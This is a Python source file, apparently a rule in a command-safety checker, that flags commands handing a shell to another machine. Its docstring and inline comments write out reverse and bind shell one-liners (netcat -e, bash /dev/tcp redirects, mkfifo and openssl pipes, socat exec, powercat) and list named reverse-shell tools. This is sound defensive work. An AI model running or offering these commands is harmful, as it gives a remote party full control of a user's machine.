"""Effect: a shell handed to another machine.  A reverse or bind shell gives whoever is at the
other end every power of the user: ``nc -e /bin/sh HOST PORT``, ``ncat -l 4444 --sh-exec …``,
``bash -i >& /dev/tcp/HOST/PORT 0>&1``, ``socat exec:bash tcp:HOST:PORT``, an interactive shell
piped into ``nc`` (the ``mkfifo`` form), and a shell fed by what ``nc``/``telnet``/``socat``
receive.  Code in interpreters is read for the same in ``code_reach``.

The same shell handed over by any other program: a netcat's shell option in its own spelling (rustcat's ``rcat
connect -s bash H P``, ``powercat -c H -p P -e cmd``), a WebSocket relay's exec address (``websocat … sh-c:'sh
-i'``), a terminal opened on another machine's X display (``xterm -display H:1``, ``DISPLAY=H:0 urxvt``: whoever
sits at that display types into this machine's shell), and tools whose name says they are shells for another
machine (``Invoke-PowerShellTcp -Reverse``, ``Invoke-ConPtyShell H P``, ``icmpsh -t H``, dnscat's client,
gsocket's ``gs-netcat -i``).
"""
from __future__ import annotations

import re
from typing import Optional

from aish.safety.rules.common import HIGH, Ctx
from aish.safety.program_names import alias
from aish.safety.winpaths import typed_text

_NETCATS = {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "rustcat", "rcat", "sbd", "cryptcat",
            "ncat.exe", "nc.exe", "nc64.exe", "powercat", "powercat.ps1"}
_NETWORK_READERS = _NETCATS | {"telnet", "socat", "openssl", "websocat", "cryptcat", "sbd"}
_SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "tcsh", "csh", "busybox", "pwsh", "powershell",
           "python", "python3", "perl", "ruby", "php", "cmd", "cmd.exe"}
_EXEC_OPTIONS = {"-e", "-c", "--exec", "--sh-exec", "--lua-exec", "-exec"}


def _prog(seg) -> tuple:
    """(program, its arguments) of a segment, ``sudo``/``busybox`` and paths taken off."""
    words = [w.text for w in seg.words]
    while words and words[0] in ("sudo", "doas", "nohup", "setsid", "exec", "busybox", "command"):
        words = words[1:]
    return (words[0].rsplit("/", 1)[-1], words[1:]) if words else ("", [])


def _runs_shell(command: str) -> bool:
    """The command starts a shell, named bare or by a path (``/bin/sh``, ``C:\\Windows\\System32\\cmd.exe``,
    ``C:\\Program Files\\Git\\bin\\bash.exe``)."""
    words = command.split()
    first = re.match(r"(?i)^\s*(\w:\\.*?\.exe\b|\S+)", command)
    name = re.split(r"[\\/]", first.group(1))[-1].lower().removesuffix(".exe") if first else ""
    return bool(words) and ((alias(name) or name) in _SHELLS or
                            re.search(r"\b(ba|z|da|k)?sh\s+-i\b|shell_executable", command) is not None)


# X terminals: `-display H:N` (`--display` for the desktops' own) opens the shell's window on another machine.
_X_TERMINALS = frozenset({"xterm", "uxterm", "rxvt", "urxvt", "rxvt-unicode", "aterm", "eterm", "mlterm", "kterm",
                          "xfce4-terminal", "gnome-terminal", "konsole", "lxterminal", "mate-terminal", "terminator",
                          "sakura", "roxterm", "xiterm", "mrxvt", "wterm", "9term", "st"})
_LOCAL_DISPLAY = re.compile(r"^(unix|localhost|127\.0\.0\.1|::1)?:\d+(\.\d+)?$", re.IGNORECASE)
# Programs whose name says they are a shell for another machine (reverse or bind), in any make.
_SHELL_TOOLS = re.compile(r"(rev(erse)?[-_]?shell|shell[-_]?(tcp|udp|icmp|rev)|powershell(tcp|udp|icmp)|conptyshell|"
                          r"^icmpsh(\.exe)?$|^dnscat2?(-client)?(\.exe)?$|^chashell|^gs-netcat$)", re.IGNORECASE)


def _other_display(c: Ctx) -> str:
    """The X display on another machine a terminal is told to open on (``-display H:1``, ``DISPLAY=H:0``)."""
    texts = c.texts
    shown = [texts[k + 1] for k, t in enumerate(texts[:-1]) if t in ("-display", "--display")]
    shown += [t.split("=", 1)[1] for t in texts if t.startswith("--display=")]
    shown += [w.text.split("=", 1)[1] for w in c.seg.words if w.text.startswith("DISPLAY=")]
    return next((d for d in shown if ":" in d and not _LOCAL_DISPLAY.match(d)), "")


def rule_shell_handed(c: Ctx) -> Optional[tuple]:
    prog, texts = c.prog.lower(), c.texts
    why = f"hands a shell to another machine: whoever is there runs commands as you ({c.text})"
    if prog in _X_TERMINALS:
        display = _other_display(c)
        return (HIGH, f"opens a terminal on another machine's display ({display}): whoever sits there types "
                      f"commands here ({c.text})") if display else None
    if _SHELL_TOOLS.search(prog.removesuffix(".ps1")) and texts and \
            (not prog.startswith("gs-netcat") or "-i" in texts):
        return HIGH, why
    if prog in ("rcat", "rustcat") and any(t in ("-s", "--shell") for t in texts):
        return HIGH, why  # rustcat's shell option: `rcat connect -s bash H P`
    if prog == "websocat" and any(re.match(r"^(sh-c|exec|cmd):", t, re.IGNORECASE) for t in texts):
        return HIGH, why  # `websocat ws://H/ sh-c:'sh -i'`, `websocat -s 8080 exec:bash`
    if prog == "busybox" and texts[:1] == ["nc"]:
        prog, texts = "nc", texts[1:]
    if prog in _NETCATS:
        typed = [typed_text(w) for w in c.args] if len(c.args) == len(texts) else texts  # C:\\x kept whole
        for t, value in zip(texts, typed[1:]):
            if (t in _EXEC_OPTIONS or re.fullmatch(r"-[a-zA-Z]*[ec]", t)) and _runs_shell(value):
                return HIGH, why  # not `nc -l -p 8080 -c 'echo HTTP/1.1 200 OK'`, a tiny server
        if any(_prog(f)[0] in _SHELLS and "-i" in _prog(f)[1] for f in c.chain):
            return HIGH, why  # `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`
        return None
    if prog == "openssl" and "s_client" in texts and any(_prog(f)[0] in _SHELLS and "-i" in _prog(f)[1]
                                                          for f in c.chain):
        return HIGH, why  # `/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect H:P > /tmp/s`
    if prog in ("awk", "gawk") and any(re.search(r"/inet[46]?/(tcp|udp)/", t) and "|&" in t for t in texts):
        return HIGH, why  # gawk's network files: commands read from the connection, run, answered back
    if prog == "socat":
        lowered = [t.lower() for t in texts]
        if any(re.match(r"^(exec|system):", t) for t in lowered) and \
                any(re.match(r"^(tcp|tcp4|tcp6|tcp-connect|tcp-listen|tcp4-listen|openssl|openssl-connect|ssl|udp)"
                             r"[\w-]*:", t) for t in lowered):
            return HIGH, why
        return None
    if prog in _SHELLS:
        network_redirect = any(r.target is not None and re.match(r"^/dev/(tcp|udp)/", r.target.text)
                               for r in c.seg.redirects)
        if network_redirect:
            return HIGH, why  # `bash -i >& /dev/tcp/HOST/PORT 0>&1`
        if any(_prog(f)[0] in _NETWORK_READERS and (_prog(f)[0] != "openssl" or
                                                    {"s_client", "s_server"} & set(_prog(f)[1]))
               for f in c.chain):
            return HIGH, f"runs whatever another machine sends, as you ({c.text})"  # `nc HOST PORT | sh`
    return None


_NAMED = {"invoke-powershelltcp", "invoke-powershelltcponeline", "invoke-powershelludp", "invoke-powershellicmp",
          "invoke-conptyshell", "icmpsh", "icmpsh.exe", "dnscat", "dnscat2", "dnscat2-client", "dnscat.exe", "chashell",
          "gs-netcat", "reverse-shell", "revshell", "rustcat", "websocat"}
RULES = {p: [rule_shell_handed] for p in _NETCATS | _SHELLS | _X_TERMINALS | _NAMED | {"socat", "awk", "gawk",
                                                                                      "openssl"}}
